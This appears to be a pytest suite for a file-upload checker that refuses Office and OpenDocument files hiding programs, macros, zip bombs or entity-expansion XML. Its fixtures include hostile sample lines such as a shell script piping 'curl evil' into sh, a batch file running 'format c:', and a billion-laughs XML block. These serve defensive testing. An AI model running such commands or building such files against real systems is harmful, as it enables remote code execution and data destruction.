"""Office and OpenDocument files are looked inside before one is kept: a program or macros
anywhere in them, too many parts, or parts that expand like a zip bomb are refused with a
message naming the reason; ordinary documents, with pictures and charts, still pass."""

import io
import struct
import zipfile

import pytest

from cohort.core import containers
from cohort.core.uploads import check_upload

from .test_uploads import MZ, WORD_CLASS, ole2, png, refusal

MB = 1024 * 1024
OPENXML = "application/vnd.openxmlformats-officedocument"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_TYPE = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
ODT = "application/vnd.oasis.opendocument.text"
MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            stored = name == "mimetype" or name.endswith("/")
            archive.writestr(name, content,
                             compress_type=zipfile.ZIP_STORED if stored else None)
    return buffer.getvalue()


def content_types(*overrides: tuple[str, str], defaults: tuple[tuple[str, str], ...] = ()) -> bytes:
    rows = [f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in (
        ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
        ("xml", "application/xml"), ("png", "image/png"),
        ("bin", f"{OPENXML}.oleObject"), ("xlsx", f"{OPENXML}.spreadsheetml.sheet"),
        *defaults)]
    rows += [f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides]
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Types xmlns="{PACKAGE}/content-types">{"".join(rows)}</Types>').encode()


def relationships(*rows: tuple[str, str]) -> bytes:
    body = "".join(f'<Relationship Id="rId{n}" Type="{t}" Target="{target}"/>'
                   for n, (t, target) in enumerate(rows, 1))
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="{PACKAGE}/relationships">{body}</Relationships>').encode()


def xlsx(**extra: bytes) -> bytes:
    """A workbook as Excel writes one, with its printer settings part."""
    return zipped({
        "[Content_Types].xml": content_types(
            ("/xl/workbook.xml", f"{OPENXML}.spreadsheetml.sheet.main+xml")),
        "_rels/.rels": relationships((f"{OFFICE}/officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook><sheets/></workbook>',
        "xl/_rels/workbook.xml.rels": relationships((f"{OFFICE}/worksheet",
                                                     "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet>' + b"<row/>" * 500
                                    + b"</worksheet>",
        "xl/printerSettings/printerSettings1.bin": "Microsoft Print to PDF".encode("utf-16-le")
                                                   + bytes(200),
        **extra,
    })


def docx(**extra: bytes) -> bytes:
    """A Word document with a picture, a chart and its workbook, and an embedded object."""
    return zipped({
        "[Content_Types].xml": content_types(
            ("/word/document.xml", f"{OPENXML}.wordprocessingml.document.main+xml"),
            ("/word/charts/chart1.xml", f"{OPENXML}.drawingml.chart+xml")),
        "_rels/.rels": relationships((f"{OFFICE}/officeDocument", "word/document.xml")),
        "word/document.xml": b'<?xml version="1.0"?><w:document>' + b"<w:p/>" * 500
                             + b"</w:document>",
        "word/_rels/document.xml.rels": relationships(
            (f"{OFFICE}/image", "media/image1.png"), (f"{OFFICE}/chart", "charts/chart1.xml"),
            (f"{OFFICE}/oleObject", "embeddings/oleObject1.bin"),
            (f"{OFFICE}/hyperlink", "https://example.org/vbaProject.bin"),
            (f"{OFFICE}/hyperlink", "https://example.org/Budget.xlsm")),
        "word/media/image1.png": png(),
        "word/charts/chart1.xml": b'<?xml version="1.0"?><c:chartSpace/>',
        "word/charts/_rels/chart1.xml.rels": relationships(
            (f"{OFFICE}/package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
        "word/embeddings/oleObject1.bin": ole2(WORD_CLASS),
        **extra,
    })


def pptx() -> bytes:
    return zipped({
        "[Content_Types].xml": content_types(
            ("/ppt/presentation.xml", f"{OPENXML}.presentationml.presentation.main+xml")),
        "_rels/.rels": relationships((f"{OFFICE}/officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation/>',
        "ppt/slides/slide1.xml": b'<?xml version="1.0"?><p:sld/>',
        "ppt/media/image1.png": png(),
        "ppt/embeddings/Microsoft_Excel_Worksheet1.xlsx": xlsx(),
    })


def manifest(*entries: tuple[str, str]) -> bytes:
    rows = "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"/>'
                   for p, t in (("/", ODT), ("content.xml", "text/xml"), *entries))
    return (f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            f'xmlns:manifest="{MANIFEST}" manifest:version="1.3">{rows}</manifest:manifest>'
            ).encode()


def odt(*entries: tuple[str, str], **extra: bytes) -> bytes:
    """A LibreOffice text with a picture, an embedded chart and the empty folders it keeps."""
    return zipped({
        "mimetype": ODT.encode(),
        "content.xml": b'<?xml version="1.0"?><office:document-content/>',
        "Pictures/100000010000000100000001.png": png(),
        "Thumbnails/thumbnail.png": png(),
        "Configurations2/toolbar/": b"",
        "Object 1/content.xml": b'<?xml version="1.0"?><office:document-content/>',
        **extra,
        "META-INF/manifest.xml": manifest(("Pictures/100000010000000100000001.png", "image/png"),
                                          ("Object 1/", f"{ODT[:-4]}chart"), *entries),
    })


def ole_with_macros() -> bytes:
    """An OLE2 file whose directory holds the stream every VBA project has."""
    return ole2(WORD_CLASS) + "VBA".encode("utf-16-le") + bytes(64) \
        + "_VBA_PROJECT".encode("utf-16-le") + bytes(512)


@pytest.mark.parametrize(("filename", "data"), [
    ("Report.docx", docx()), ("Budget.xlsx", xlsx()), ("Talk.pptx", pptx()),
    ("Notes.odt", odt()),
])
def test_ordinary_documents_with_pictures_and_charts_pass(filename, data):
    upload = check_upload(filename, data, max_bytes=20 * MB)
    assert (upload.filename, upload.size) == (filename, len(data))


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(120)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(120)
CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(120)
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" \
    + bytes(120)


def program(place: str) -> str:
    return f"The file holds a program ({place}) and cannot be shared."


def macros(place: str) -> str:
    return f"The file holds macros ({place}) and cannot be shared: save it without macros and " \
           "try again."


@pytest.mark.parametrize(("filename", "data", "message"), [
    ("notes.docx", docx(**{"word/embeddings/payload.exe": MZ}),
     program("word/embeddings/payload.exe")),
    ("notes.docx", docx(**{"word/embeddings/oleObject2.bin": MZ}),
     program("word/embeddings/oleObject2.bin")),
    ("notes.docx", docx(**{"word/media/image2.png": ELF}), program("word/media/image2.png")),
    ("notes.docx", docx(**{"word/media/image2.emf": MACH_O}), program("word/media/image2.emf")),
    ("notes.docx", docx(**{"customXml/item9.xml": b"#!/bin/sh\ncurl evil | sh\n"}),
     program("customXml/item9.xml")),
    ("notes.docx", docx(**{"word/embeddings/Readme": SHORTCUT}),
     program("word/embeddings/Readme")),
    ("notes.docx", docx(**{"word/fonts/font1.odttf": CLASS}), program("word/fonts/font1.odttf")),
    ("notes.odt", odt(**{"Pictures/payload.exe": MZ}), program("Pictures/payload.exe")),
    ("notes.odt", odt(**{"Pictures/image2.png": ELF}), program("Pictures/image2.png")),
])
def test_a_program_inside_a_document_is_refused_by_its_name_or_its_content(
        filename, data, message):
    assert refusal(filename, data, max_bytes=20 * MB) == message


def packaged(name: bytes, content: bytes) -> bytes:
    """An embedded object as Office's Packager makes one: an OLE2 file whose Ole10Native stream
    holds a file's name, its path and its content."""
    native = b"\x02\x00" + name + b"\x00C:\\Users\\ada\\" + name + b"\x00" + content
    return ole2(WORD_CLASS) + "Ole10Native".encode("utf-16-le") + bytes(64) \
        + struct.pack("<I", len(native)) + native


@pytest.mark.parametrize(("name", "content"), [
    (b"invoice.exe", MZ + b"This program cannot be run in DOS mode.\r\r\n$"),
    (b"run.bat", b"@echo off\r\nformat c:\r\n"),
    (b"notes", MZ + b"This program cannot be run in DOS mode.\r\r\n$"),
    (b"notes.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(64)),
])
def test_a_program_packaged_as_an_embedded_object_is_refused(name, content):
    data = docx(**{"word/embeddings/oleObject2.bin": packaged(name, content)})
    assert refusal("notes.docx", data, max_bytes=20 * MB) == program(
        "word/embeddings/oleObject2.bin")


def test_a_document_packaged_as_an_embedded_object_passes():
    data = docx(**{"word/embeddings/oleObject2.bin": packaged(b"minutes.pdf", b"%PDF-1.4\n")})
    assert check_upload("notes.docx", data, max_bytes=20 * MB).size == len(data)


def plain_docx(**parts: bytes) -> bytes:
    """A Word document of five parts, with the given parts in place of or beside them."""
    base = {
        "[Content_Types].xml": content_types(
            ("/word/document.xml", f"{OPENXML}.wordprocessingml.document.main+xml")),
        "_rels/.rels": relationships((f"{OFFICE}/officeDocument", "word/document.xml")),
        "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        "word/_rels/document.xml.rels": relationships((f"{OFFICE}/styles", "styles.xml")),
        "word/settings.bin": bytes(300),
    }
    return zipped({**base, **parts})


@pytest.mark.parametrize(("data", "place"), [
    # the macro part renamed, given away by its relationship...
    (plain_docx(**{"word/_rels/document.xml.rels": relationships(
        (VBA_TYPE, "settings.bin"))}), "settings.bin"),
    # ...by its content type...
    (plain_docx(**{"[Content_Types].xml": content_types(
        ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))}),
     "word/document.xml"),
    (plain_docx(**{"[Content_Types].xml": content_types(
        defaults=(("dat", "application/vnd.ms-office.vbaProject"),))}), "*.dat"),
    # ...or by its content alone, with every other trace removed
    (plain_docx(**{"word/settings.bin": ole_with_macros()}), "word/settings.bin"),
    (plain_docx(**{"word/_rels/document.xml.rels": relationships(
        ("http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
         "vbaData.xml"))}), "vbaData.xml"),
    # a template with macros fetched when the document opens
    (plain_docx(**{"word/_rels/settings.xml.rels": relationships(
        (f"{OFFICE}/attachedTemplate", "https://example.org/t.dotm"))}),
     "https://example.org/t.dotm"),
    # a workbook with macros embedded in the document
    (docx(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(
        **{"xl/vbaProject.bin": ole_with_macros()})}),
     "xl/vbaProject.bin in word/embeddings/Microsoft_Excel_Worksheet.xlsx"),
])
def test_macros_inside_an_office_file_are_refused_under_any_name(data, place):
    assert refusal("notes.docx", data, max_bytes=20 * MB) == macros(place)


@pytest.mark.parametrize(("data", "place"), [
    (odt(**{"Basic/Standard/Module1.xml": b'<?xml version="1.0"?><module/>'}),
     "Basic/Standard/Module1.xml"),
    (odt(**{"Scripts/python/run.py": b"import os\nos.system('x')\n"}), "Scripts/python/run.py"),
    (odt(("Scripts/", "application/binary")), "Scripts/"),
    (odt(("macro.js", "application/javascript")), "macro.js"),
])
def test_macros_and_scripts_inside_an_opendocument_file_are_refused(data, place):
    assert refusal("notes.odt", data, max_bytes=20 * MB) == macros(place)


def test_an_old_office_file_with_macros_is_refused():
    assert refusal("old.doc", ole_with_macros()) == (
        "The file holds macros and cannot be shared: save it without macros and try again.")


def test_a_part_that_expands_like_a_zip_bomb_is_refused():
    bomb = docx(**{"word/media/image2.png": bytes(5 * MB)})
    assert refusal("notes.docx", bomb, max_bytes=20 * MB) == (
        "The file has a part that expands over 200 times (word/media/image2.png), as a zip bomb "
        "does, and cannot be shared.")


def test_a_zip_bomb_inside_an_embedded_workbook_is_refused():
    bomb = docx(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(
        **{"xl/worksheets/sheet2.xml": bytes(5 * MB)})})
    assert refusal("notes.docx", bomb, max_bytes=20 * MB) == (
        "The file has a part that expands over 200 times (xl/worksheets/sheet2.xml in "
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx), as a zip bomb does, and cannot be "
        "shared.")


def test_a_program_inside_an_embedded_archive_is_refused():
    package = zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "a/Main": CLASS})
    assert refusal("notes.docx", docx(**{"word/embeddings/package.zip": package}),
                   max_bytes=20 * MB) == program("a/Main in word/embeddings/package.zip")


def test_a_file_whose_parts_together_expand_like_a_zip_bomb_is_refused():
    """Each part is small enough to be let through on its own ratio; together they are not."""
    bomb = docx(**{f"word/media/image{n}.png": bytes(MB) for n in range(2, 40)})
    assert refusal("notes.docx", bomb, max_bytes=20 * MB) == (
        "The file expands over 200 times its size, as a zip bomb does, and cannot be shared.")


def test_a_file_whose_parts_claim_to_expand_past_the_limit_is_refused():
    """The sizes are read from the central directory, before any part is read."""
    data = bytearray(plain_docx(**{"word/media/image1.png": png()}))
    entry = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)  # the second part's
    data[entry + 24:entry + 28] = struct.pack("<I", 201 * MB)  # its size once expanded
    assert refusal("notes.docx", bytes(data), max_bytes=20 * MB) == (
        "The file would expand to more than 200 MB and cannot be shared.")


def many_parts(count: int) -> bytes:
    """A Word document of `count` parts."""
    return plain_docx(**{f"word/media/{n}.xml": b"" for n in range(count - 5)})


TOO_MANY = "The file holds more than 10,000 parts, too many to check, and cannot be shared."


def test_a_file_of_too_many_parts_is_refused_before_any_part_is_read(monkeypatch):
    over = many_parts(containers.LIMITS.entries + 1)

    def never(*args, **kwargs):
        raise AssertionError("the archive was opened")
    monkeypatch.setattr(zipfile, "ZipFile", never)
    assert refusal("notes.docx", over, max_bytes=20 * MB) == TOO_MANY


def test_a_file_whose_end_record_understates_its_parts_is_still_refused():
    data = bytearray(many_parts(containers.LIMITS.entries + 1))
    end = data.rindex(b"PK\x05\x06")
    data[end + 8:end + 12] = struct.pack("<HH", 3, 3)  # parts on this disk, parts in all
    assert refusal("notes.docx", bytes(data), max_bytes=20 * MB) == TOO_MANY


def test_a_file_at_the_cap_of_parts_passes():
    data = many_parts(containers.LIMITS.entries)
    assert check_upload("notes.docx", data, max_bytes=20 * MB).size == len(data)


def test_containers_inside_containers_too_deeply_are_refused():
    inner = zipped({"a.txt": b"hello"})
    for _ in range(2):
        inner = zipped({"inner.zip": inner})
    assert refusal("notes.docx", docx(**{"word/embeddings/package.zip": inner}),
                   max_bytes=20 * MB) == (
        "The file holds containers inside containers too deeply (inner.zip in inner.zip in "
        "word/embeddings/package.zip) to check, and cannot be shared.")


def test_a_part_that_declares_entities_cannot_be_checked():
    laughs = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>')
    assert refusal("notes.docx", docx(**{"word/_rels/settings.xml.rels": laughs}),
                   max_bytes=20 * MB) == (
        "The file has a part that cannot be checked (word/_rels/settings.xml.rels) and cannot "
        "be shared: save it again from its program and try again.")


def test_a_damaged_part_cannot_be_checked():
    data = bytearray(docx(**{"word/media/image2.png": b"abc" * 1000}))
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/media/image2.png")
    name, extra = struct.unpack("<HH", data[info.header_offset + 26:info.header_offset + 30])
    data[info.header_offset + 30 + name + extra] = 0xFF  # a deflate block of no known type
    assert refusal("notes.docx", bytes(data), max_bytes=20 * MB) == (
        "The file has a part that cannot be checked (word/media/image2.png) and cannot be "
        "shared: save it again from its program and try again.")
